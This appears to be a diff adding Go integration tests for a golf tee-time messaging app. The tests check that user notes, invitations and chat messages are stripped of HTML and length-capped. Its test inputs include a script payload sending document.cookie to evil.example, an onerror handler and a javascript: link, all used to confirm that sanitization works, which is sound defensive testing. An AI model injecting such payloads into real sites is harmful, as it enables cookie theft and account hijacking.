@@ -0,0 +1,163 @@
+package integration
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/yourusername/golf_messenger/internal/database"
+	"github.com/yourusername/golf_messenger/internal/handler"
+	"github.com/yourusername/golf_messenger/internal/models"
+	"github.com/yourusername/golf_messenger/pkg/validator"
+)
+
+const scriptPayload = `Bring <b>cash</b><script>fetch("https://evil.example/?c="+document.cookie)</script>  for   the <img src=x onerror=alert(1)>cart`
+
+func TestSanitizedText(t *testing.T) {
+	db := setupTTRTestDB(t)
+	api := newTestAPI(t, db)
+
+	captainToken, _ := registerTestUser(t, api, "captain@example.com", "Captain")
+	playerToken, playerID := registerTestUser(t, api, "player@example.com", "Player")
+	_, inviteeID := registerTestUser(t, api, "invitee@example.com", "Invitee")
+
+	createTTR := func(notes string) (int, apiEnvelope) {
+		t.Helper()
+		return doJSON(t, api, "POST", "/api/v1/ttrs", captainToken, map[string]interface{}{
+			"course_name": "Pebble Beach",
+			"tee_date":    time.Now().AddDate(0, 0, 7).Format("2006-01-02"),
+			"tee_time":    "08:30",
+			"max_players": 4,
+			"visibility":  "PUBLIC",
+			"notes":       notes,
+			"force":       true,
+		})
+	}
+	maxLength := func(t *testing.T, env apiEnvelope, field string, param string) {
+		t.Helper()
+		assert.Equal(t, "VALIDATION_ERROR", env.Error.Code)
+		var details []validator.FieldError
+		require.NoError(t, json.Unmarshal(env.Error.Details, &details))
+		require.Len(t, details, 1)
+		assert.Equal(t, field, details[0].Field)
+		assert.Equal(t, "max", details[0].Rule)
+		assert.Equal(t, param, details[0].Param)
+	}
+
+	code, env := createTTR(scriptPayload)
+	require.Equal(t, http.StatusCreated, code)
+	var ttr handler.TTRResponse
+	require.NoError(t, json.Unmarshal(env.Data, &ttr))
+	require.NotNil(t, ttr.Notes)
+	assert.Equal(t, "Bring cash for the cart", *ttr.Notes)
+	code, _ = doJSON(t, api, "POST", "/api/v1/ttrs/"+ttr.ID+"/join", playerToken, nil)
+	require.Equal(t, http.StatusOK, code)
+
+	t.Run("TTR notes", func(t *testing.T) {
+		code, env := doJSON(t, api, "PUT", "/api/v1/ttrs/"+ttr.ID, captainToken, map[string]string{"notes": "<p>Carts\u202e booked</p>\n\n\n\n<p>Lunch after</p>"})
+		require.Equal(t, http.StatusOK, code)
+		var updated handler.TTRResponse
+		require.NoError(t, json.Unmarshal(env.Data, &updated))
+		assert.Equal(t, "Carts booked\n\nLunch after", *updated.Notes)
+
+		// The cap counts characters, not bytes.
+		code, _ = createTTR(strings.Repeat("é", 2000))
+		assert.Equal(t, http.StatusCreated, code)
+		code, env = createTTR(strings.Repeat("é", 2001))
+		assert.Equal(t, http.StatusUnprocessableEntity, code)
+		maxLength(t, env, "notes", "2000")
+
+		code, env = doJSON(t, api, "PUT", "/api/v1/ttrs/"+ttr.ID, captainToken, map[string]string{"notes": strings.Repeat("a", 2001)})
+		assert.Equal(t, http.StatusUnprocessableEntity, code)
+		maxLength(t, env, "notes", "2000")
+	})
+
+	t.Run("player notes", func(t *testing.T) {
+		code, _ := doJSON(t, api, "PUT", "/api/v1/ttrs/"+ttr.ID+"/players/"+playerID, captainToken, map[string]string{"notes": "<script>x()</script>Left-handed clubs"})
+		require.Equal(t, http.StatusOK, code)
+		var player models.TTRPlayer
+		require.NoError(t, db.First(&player, "ttr_id = ? AND user_id = ?", ttr.ID, playerID).Error)
+		assert.Equal(t, "Left-handed clubs", *player.Notes)
+
+		code, env := doJSON(t, api, "PUT", "/api/v1/ttrs/"+ttr.ID+"/players/"+playerID, captainToken, map[string]string{"notes": strings.Repeat("a", 2001)})
+		assert.Equal(t, http.StatusUnprocessableEntity, code)
+		maxLength(t, env, "notes", "2000")
+	})
+
+	t.Run("invitation messages", func(t *testing.T) {
+		code, env := doJSON(t, api, "POST", "/api/v1/invitations", captainToken, map[string]string{
+			"ttr_id": ttr.ID, "invitee_user_id": inviteeID, "message": strings.Repeat("a", 1001),
+		})
+		assert.Equal(t, http.StatusUnprocessableEntity, code)
+		maxLength(t, env, "message", "1000")
+
+		code, env = doJSON(t, api, "POST", "/api/v1/invitations", captainToken, map[string]string{
+			"ttr_id": ttr.ID, "invitee_user_id": inviteeID, "message": `Join us <a href="javascript:steal()">here</a>!`,
+		})
+		require.Equal(t, http.StatusCreated, code)
+		var invitation handler.InvitationResponse
+		require.NoError(t, json.Unmarshal(env.Data, &invitation))
+		assert.Equal(t, "Join us here!", *invitation.Message)
+	})
+
+	t.Run("chat messages", func(t *testing.T) {
+		code, env := doJSON(t, api, "POST", "/api/v1/ttrs/"+ttr.ID+"/messages", playerToken, map[string]string{"body": "see you <b>there</b> <3"})
+		require.Equal(t, http.StatusCreated, code)
+		var message handler.MessageResponse
+		require.NoError(t, json.Unmarshal(env.Data, &message))
+		assert.Equal(t, "see you there &lt;3", message.Body)
+
+		code, env = doJSON(t, api, "POST", "/api/v1/ttrs/"+ttr.ID+"/messages", playerToken, map[string]string{"body": "<script>alert(1)</script>"})
+		assert.Equal(t, http.StatusBadRequest, code)
+		assert.Equal(t, "MESSAGE_EMPTY", env.Error.Code)
+	})
+}
+
+func TestSanitizeTextBackfill(t *testing.T) {
+	ctx := context.Background()
+	db := setupTTRTestDB(t)
+
+	captain := models.User{Email: "captain@example.com", PasswordHash: "hash", FirstName: "Captain", LastName: "User"}
+	require.NoError(t, db.Create(&captain).Error)
+	raw := "<b>old</b>   notes<script>x()</script>"
+	clean := "already clean"
+	ttr := models.TTR{
+		CourseName:      "Pebble Beach",
+		TeeDate:         time.Now().AddDate(0, 0, 7).Truncate(24 * time.Hour),
+		TeeTime:         time.Date(0, 1, 1, 8, 30, 0, 0, time.UTC),
+		MaxPlayers:      4,
+		CreatedByUserID: captain.ID,
+		CaptainUserID:   captain.ID,
+		Status:          models.TTRStatusOpen,
+		Visibility:      models.TTRVisibilityPublic,
+		Notes:           &raw,
+	}
+	require.NoError(t, db.Create(&ttr).Error)
+	require.NoError(t, db.Delete(&ttr).Error)
+	require.NoError(t, db.Create(&models.TTRPlayer{TTRID: ttr.ID, UserID: captain.ID, Status: models.TTRPlayerStatusConfirmed, Notes: &clean}).Error)
+	invitation := models.Invitation{TTRID: ttr.ID, InviterUserID: captain.ID, InviteeUserID: uuid.New(), Status: models.InvitationStatusPending, Message: &raw}
+	require.NoError(t, db.Create(&invitation).Error)
+	message := models.Message{TTRID: ttr.ID, UserID: captain.ID, Body: "hi\x00 <i>all</i>"}
+	require.NoError(t, db.Create(&message).Error)
+
+	changed, err := database.SanitizeText(ctx, db)
+	require.NoError(t, err)
+	assert.Equal(t, 3, changed)
+
+	require.NoError(t, db.Unscoped().First(&ttr, "id = ?", ttr.ID).Error)
+	assert.Equal(t, "old notes", *ttr.Notes, "deleted TTRs are sanitized too")
+	require.NoError(t, db.First(&invitation, "id = ?", invitation.ID).Error)
+	assert.Equal(t, "old notes", *invitation.Message)
+	require.NoError(t, db.First(&message, "id = ?", message.ID).Error)
+	assert.Equal(t, "hi all", message.Body)
+
+	changed, err = database.SanitizeText(ctx, db)
+	require.NoError(t, err)
+	assert.Zero(t, changed, "sanitized text is left alone")
+}